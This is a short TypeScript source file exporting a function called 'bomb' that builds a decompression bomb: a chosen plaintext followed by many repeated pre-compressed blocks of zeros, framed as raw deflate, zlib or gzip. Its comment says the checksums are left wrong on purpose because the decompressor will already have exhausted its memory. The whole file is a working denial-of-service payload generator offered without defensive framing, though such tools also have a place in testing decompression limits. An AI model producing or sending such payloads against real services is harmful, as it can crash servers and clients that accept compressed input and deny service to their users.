import { constants, deflateRawSync } from "node:zlib";

const BLOCK = 10e6;
const FRAMES = {
  raw: [Buffer.alloc(0), Buffer.alloc(0)],
  zlib: [Buffer.from([0x78, 0x9c]), Buffer.alloc(4)],
  gzip: [Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), Buffer.alloc(8)],
} as const;
let zeros: Buffer | undefined;

/**
 * `plain` and `size` zeros behind it as deflate data, made without as many zeros in memory: a block of them, which ends at a
 * byte, is repeated. Checksums are wrong: whoever comes as far as to look at them has taken the memory already.
 */
export function bomb(plain: Uint8Array, size: number, form: keyof typeof FRAMES): Buffer {
  const flushed = { finishFlush: constants.Z_FULL_FLUSH };
  zeros ??= deflateRawSync(Buffer.alloc(BLOCK), flushed);
  const [before, behind] = FRAMES[form];
  const blocks = Array.from({ length: Math.ceil(size / BLOCK) }, () => zeros!);
  return Buffer.concat([
    before,
    deflateRawSync(plain, flushed),
    ...blocks,
    deflateRawSync(Buffer.alloc(0)),
    behind,
  ]);
}
